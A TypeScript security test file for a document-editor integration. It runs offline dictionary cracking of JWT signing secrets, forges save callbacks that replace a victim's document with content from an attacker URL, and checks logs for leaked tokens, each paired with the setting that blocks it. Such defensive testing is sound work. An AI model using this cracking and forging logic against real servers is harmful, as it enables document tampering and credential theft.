import { createHmac } from 'node:crypto'
import { memoryLog } from '../../kit/log.js'
import { forgedToken } from '../../kit/document-server.js'
import type { AlwaysStopped, Attack, Run } from './attack.js'
import { JSON_TYPE, now, startTarget, type Target } from './target.js'

const DICTIONARY = [
  '123456',
  'password',
  'onlyoffice',
  'secret',
  'my_jwt_secret',
  'verysecretstring',
  'changeme',
  'Summer-2026',
  'Winter-2026',
  ...Array.from('abcdefghijklmnopqrstuvwxyz', letter => letter.repeat(32))
]
const GUESSED = 'verysecretstring'
/** As long as it must be. */
const EQUAL_LETTERS = 'a'.repeat(32)
/** Of the host's own making, and short. */
const SHORT = 'Winter-2026'

/** The word of a dictionary that a token is signed with: tried offline, nobody notices. */
function secretOf (token: string): string | undefined {
  const [header, payload, signature] = token.split('.')
  return DICTIONARY.find(word => createHmac('sha256', word).update(`${header}.${payload}`).digest('base64url') === signature)
}

/** A save of the victim's document with whatever the secret gives. */
async function forge ({ urlsOf, fileId, key, evilUrl }: Target, secret: string): Promise<void> {
  const claims = { key, status: 2, url: evilUrl, filetype: 'docx', iat: now(), exp: now() + 300 }
  await fetch(urlsOf({ secrets: [secret] }).callback(fileId), {
    method: 'POST',
    headers: JSON_TYPE,
    body: JSON.stringify({ ...claims, token: forgedToken(claims, { secret }) })
  })
}

function byGuess (title: string, has: string, jwtSecret: string | readonly string[], secretFor: (token: string) => string | undefined): Attack {
  return {
    title,
    has,
    stoppedBy: { allowWeakSecret: 'the service does not start with such a secret' },
    async run (t, options) {
      const target = await startTarget(t, { ...options, jwtSecret }).catch((error: { code?: unknown }) => {
        if (error.code === 'FST_EDITOR_INVALID_OPTION') return null
        throw error
      })
      if (!target) return false
      const control = await target.app.editorControl().openDocument(target.own)
      const secret = secretFor(control.config!.token)
      if (secret !== undefined) await forge(target, secret)
      return await target.isReplaced()
    }
  }
}

/** Everything that a service logs at its most talkative while a document is opened, fetched and saved. */
const readingTheLog = (prepare?: Parameters<typeof startTarget>[1]['prepare']): Run => async (t, options) => {
  const log = memoryLog()
  const target = await startTarget(t, { ...options, server: log.server, ...(prepare && { prepare }) })
  const { documentUrl } = await target.app.editorControl().openDocument(target.fileId)
  await (await fetch(documentUrl)).text()
  await (await target.downloadAsDocumentServer(target.fileId)).text()
  await target.saveFrom('http://127.0.0.1:1/refused')
  await target.saveFrom(target.url)
  if (!log.text().includes('document saved')) throw new Error('nothing was logged')
  return /eyJ[\w-]+\.eyJ|signature=|Bearer /.test(log.text())
}

const log: AlwaysStopped = {
  title: 'takes credentials from the service\'s log',
  has: 'the log at level trace',
  because: 'no token, query or secret is logged',
  run: readingTheLog(),
  control: readingTheLog(app => {
    app.addHook('onRequest', async request => request.log.info({ headers: request.headers, target: request.raw.url }))
  })
}

export const secrets: readonly Attack[] = [
  byGuess(
    'guesses the secret from a token, and replaces a document',
    'a page with the editor and a document of their own; a dictionary',
    GUESSED,
    secretOf
  ),
  byGuess(
    'guesses a short secret that the application chose',
    'a page with the editor and a document of their own; a longer dictionary',
    SHORT,
    secretOf
  ),
  byGuess(
    'guesses a secret of 32 identical letters',
    'a page with the editor and a document of their own; a list of patterns',
    EQUAL_LETTERS,
    secretOf
  ),
  byGuess(
    'signs with a known default that was left in the list of secrets',
    'the documentation of the document server',
    ['a-strong-secret-that-signs-0123456789', GUESSED],
    () => GUESSED
  ),
  log
]
